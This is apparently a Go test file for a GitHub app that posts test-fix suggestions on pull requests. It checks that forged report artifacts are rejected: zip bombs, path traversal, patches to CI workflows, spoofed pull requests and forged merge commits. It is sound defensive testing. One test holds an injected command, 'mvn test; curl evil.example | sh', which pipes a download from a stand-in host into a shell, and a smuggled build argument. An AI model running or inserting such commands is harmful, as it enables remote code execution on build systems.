package post

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/odfix/odfix/internal/accept"
	"github.com/odfix/odfix/internal/githubtest"
	"github.com/odfix/odfix/internal/investigate/investigatetest"
	"github.com/odfix/odfix/internal/job"
	"github.com/odfix/odfix/internal/patch"
	"github.com/odfix/odfix/internal/suite"
)

// TestAttackArtifacts: archives that are no small zip file with one report are refused as a whole.
func TestAttackArtifacts(t *testing.T) {
	good := investigatetest.Recording(t, "demo.report.json")
	for name, artifact := range map[string][]byte{
		"no zip file":       []byte("PK and nothing"),
		"too large":         bytes.Repeat([]byte("x"), maxZip+1),
		"a bomb":            zipOf(t, map[string][]byte{"report.json": bytes.Repeat([]byte(" "), 64<<20)}),
		"very many values":  zipOf(t, map[string][]byte{"report.json": []byte(`{"tests":[` + strings.Repeat("{},", 100_000) + `{}]}`)}),
		"out of the folder": zipOf(t, map[string][]byte{"../../report.json": good}),
		"an absolute path":  zipOf(t, map[string][]byte{"/report.json": good}),
		"no report":         zipOf(t, map[string][]byte{"other/report.json": good}),
		"another language":  zipOf(t, map[string][]byte{"report.json": []byte("[]")}),
		"a later version":   zipOf(t, map[string][]byte{"report.json": []byte(`{"version":99}`)}),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newSite(t)
			p, e := s.forked(artifact)
			if res, err := s.run(e, writing); !errors.Is(err, ErrForged) || res.Posted != 0 {
				t.Errorf("%+v %v", res, err)
			}
			if bodies, check := s.posted(p); len(bodies) > 0 || check != nil {
				t.Errorf("%q %v", bodies, check)
			}
		})
	}
}

// TestAttackPatches: patches of other files than test sources are not posted, whatever the report says.
func TestAttackPatches(t *testing.T) {
	for _, file := range []string{"pom.xml", "src/main/java/com/example/shop/Settings.java", ".github/workflows/ci.yml", "../evil.java"} {
		t.Run(file, func(t *testing.T) {
			t.Parallel()
			s := newSite(t)
			r := report(t)
			p := &r.Tests[0].Patches[0]
			p.SetDiff(strings.ReplaceAll(p.RawDiff(), investigatetest.PolluterFile, file))
			pr, e := s.forked(zipOf(t, map[string][]byte{"report.json": encoded(t, r)}))
			if _, err := s.run(e, writing); err != nil {
				t.Fatal(err)
			}
			bodies, check := s.posted(pr)
			for _, text := range append(bodies, check.GetOutput().GetText()) {
				if strings.Contains(text, "```suggestion") || strings.Contains(text, "```diff") || strings.Contains(text, "git apply") {
					t.Errorf("the patch is posted:\n%s", text)
				}
			}
		})
	}
}

// TestAttackOtherPullRequest: nothing in an artifact chooses the pull request or the commit.
func TestAttackOtherPullRequest(t *testing.T) {
	s := newSite(t)
	other := s.Pull(nil)
	text := strings.Replace(string(investigatetest.Recording(t, "demo.report.json")), "{",
		`{"pull_request": {"number": 1, "head": {"sha": "`+other.HeadSha()+`"}}, "number": 1,`, 1)
	fork, err := s.Repo.Fork(s.Ctx, s.AddUser("stranger"))
	s.Must(err)
	own, err := s.Repo.OpenPullRequest(s.Ctx, githubtest.PullSpec{Author: s.Dev, Title: "Mine", Branch: "mine", From: fork,
		Change: githubtest.Change{Files: map[string]string{investigatetest.PolluterFile: s.Polluter()}}})
	s.Must(err)
	run := s.Red(own, []byte("log"))
	run.AddRawArtifact("odfix-report", zipOf(t, map[string][]byte{"report.json": []byte(text), "pr_number": []byte("1")}))
	payload, err := run.Event(s.Ctx)
	if _, err := s.run(s.event("workflow_run", payload, err), writing); err != nil {
		t.Fatal(err)
	}
	if bodies, check := s.posted(other); len(bodies) > 0 || check != nil {
		t.Errorf("posted on the other pull request: %q", bodies)
	}
	if bodies, _ := s.posted(own); len(bodies) != 1 {
		t.Errorf("not posted on its own: %q", bodies)
	}
}

// TestAttackAdoptedCommit: somebody else's pull request has the commit of a stranger's, which is closed by
// now. The stranger's run says nothing about it.
func TestAttackAdoptedCommit(t *testing.T) {
	s := newSite(t)
	fork, err := s.Repo.Fork(s.Ctx, s.AddUser("stranger"))
	s.Must(err)
	own, err := s.Repo.OpenPullRequest(s.Ctx, githubtest.PullSpec{Author: s.Dev, Title: "Mine", Branch: "mine", From: fork,
		Change: githubtest.Change{Files: map[string]string{investigatetest.PolluterFile: s.Polluter()}}})
	s.Must(err)
	second, err := fork.Fork(s.Ctx, s.AddUser("maintainer"))
	s.Must(err)
	adopted, err := s.Repo.OpenPullRequest(s.Ctx, githubtest.PullSpec{Author: s.Owner, Title: "Adopted", Branch: "mine", From: second})
	s.Must(err)
	if own.HeadSha() != adopted.HeadSha() {
		t.Fatalf("heads %s and %s", own.HeadSha(), adopted.HeadSha())
	}
	run := s.Red(own, []byte("log"))
	run.AddRawArtifact("odfix-report", zipOf(t, map[string][]byte{"report.json": encoded(t, report(t))}))
	payload, err := run.Event(s.Ctx)
	e := s.event("workflow_run", payload, err)
	own.Close(s.Ctx, s.Dev)
	if _, err := s.run(e, writing); err != nil {
		t.Fatal(err)
	}
	if bodies, check := s.posted(adopted); len(bodies) > 0 || check != nil {
		t.Errorf("posted there: %q", bodies)
	}
}

// TestAttackRevision: a commit that the report names counts only if it is a merge of the head.
func TestAttackRevision(t *testing.T) {
	for _, revision := range []string{"main", "refs/heads/main", "../../git/refs/heads/main", strings.Repeat("a", 40)} {
		s := newSite(t)
		p := s.Pull(nil)
		r := report(t)
		r.Project.Revision = revision
		if _, err := s.run(s.onPull(p), writing, r); err != nil {
			t.Fatal(err)
		}
		if _, check := s.posted(p); !strings.Contains(check.GetOutput().GetSummary(), p.MergeSha()[:10]) {
			t.Errorf("%s: %s", revision, check.GetOutput().GetSummary())
		}
	}
}

// TestAttackForgedMerge: a merge of the head counts only if it merges into the base branch. GitHub
// shows commits of forks, too, so anyone can make a merge of the head and a commit of their own.
func TestAttackForgedMerge(t *testing.T) {
	for name, into := range map[string]func(s *site, base string) string{
		"the base":            nil,
		"a stranger's commit": func(s *site, base string) string { return s.commit(base) },
		"another root":        func(s *site, _ string) string { return s.commit() },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newSite(t)
			p := s.Pull(nil)
			named := p.MergeSha()
			if into != nil {
				base, _, err := s.Client(s.App, s.Inst).Repositories.GetCommit(s.Ctx, "acme", "shop", "main", nil)
				s.Must(err)
				named = s.commit(into(s, base.GetSHA()), p.HeadSha())
			}
			s.Configure("enabled: true\n") // GitHub's own test merge is another one now
			want := p.MergeSha()
			if into == nil {
				want = named
			}
			r := report(t)
			r.Project.Revision = named
			if _, err := s.run(s.onPull(p), writing, r); err != nil {
				t.Fatal(err)
			}
			if _, check := s.posted(p); !strings.Contains(check.GetOutput().GetSummary(), want[:10]) {
				t.Errorf("%s is not named: %s", want, check.GetOutput().GetSummary())
			}
		})
	}
}

// commit makes a commit with another pom that no branch contains.
func (s *site) commit(parents ...string) string {
	s.T.Helper()
	sha, err := s.Repo.LooseCommit(s.Ctx, s.Dev, githubtest.Change{Files: map[string]string{"pom.xml": "<project/>"}}, parents...)
	s.Must(err)
	return sha
}

// TestAttackJestNames: the report's word that a file has tests does not make it a test file, nor do tests
// that the pull request writes into it. The report's own sentences are not posted.
func TestAttackJestNames(t *testing.T) {
	const tests, code = "it('pays', () => {});\n", "module.exports = { url: 'db' };\n"
	for file, c := range map[string]struct {
		base, here string
		is         bool
	}{
		"web/integration/cart.test.js": {"", tests, true},
		"config/env.test.js":           {code, code, false},
		"config/test.js":               {code, code + tests, false},
	} {
		t.Run(file, func(t *testing.T) {
			t.Parallel()
			s := newSite(t)
			if c.base != "" {
				_, err := s.Repo.Commit(s.Ctx, s.Owner, "main", "settings", githubtest.Change{Files: map[string]string{file: c.base}})
				s.Must(err)
			}
			before, after := c.here+"let paid = 1;\n", c.here+"let paid = 2;\n"
			p, err := s.Repo.OpenPullRequest(s.Ctx, githubtest.PullSpec{Author: s.Dev, Title: "Pay", Branch: "pay",
				Change: githubtest.Change{Files: map[string]string{file: before}}})
			s.Must(err)
			id := suite.TestID(file + "#pays")
			r := &job.Report{Version: job.Version, Finished: true, Project: job.Project{Language: accept.Jest, Root: "/p", Dir: "/p"},
				Observed: &suite.Seen{Provenance: suite.Exact, Order: suite.Order{id}}}
			fix := job.Patch{Kind: job.FromHelper, Location: patch.PolluterTeardown, Style: patch.Inline, Statements: []string{"paid = 2;"},
				Why: "evil reasons", Files: []string{file}, Fixes: []suite.TestID{id}, Proof: job.Proof{Proved: true,
					Checks: []job.Check{{Name: suite.CheckCompiles, OK: true, Repeats: 1, Detail: "evil details"},
						{Name: "evil checks", OK: true, Repeats: 1}}}}
			fix.SetDiff(patch.Unified(patch.Edit{Path: file, Before: before, After: after}))
			r.Tests = []job.TestReport{{Test: id, Verdict: suite.Victim, Reason: "passes alone", Patches: []job.Patch{fix}}}
			if _, err := s.run(s.onPull(p), writing, r); err != nil {
				t.Fatal(err)
			}
			bodies, check := s.posted(p)
			text := strings.Join(bodies, "\n") + check.GetOutput().GetText()
			if strings.Contains(text, "let paid = 2;") != c.is || strings.Contains(text, "evil") {
				t.Errorf("the patch is posted: %v\n%s", !c.is, text)
			}
		})
	}
}

// TestAttackCommands: a command of a report is only shown if odfix builds the same one.
func TestAttackCommands(t *testing.T) {
	s := newSite(t)
	p := s.Pull(nil)
	r := report(t)
	r.Project.BuildArgs = []string{"-Dexec.args=evil"}
	r.Tests[0].Reproduce = []job.Command{{What: "fails", Dir: ".", Line: "mvn test; curl evil.example | sh"}}
	if _, err := s.run(s.onPull(p), writing, r); err != nil {
		t.Fatal(err)
	}
	if bodies, check := s.posted(p); strings.Contains(bodies[0]+check.GetOutput().GetText(), "evil") {
		t.Errorf("%s\n%s", bodies[0], check.GetOutput().GetText())
	}
}
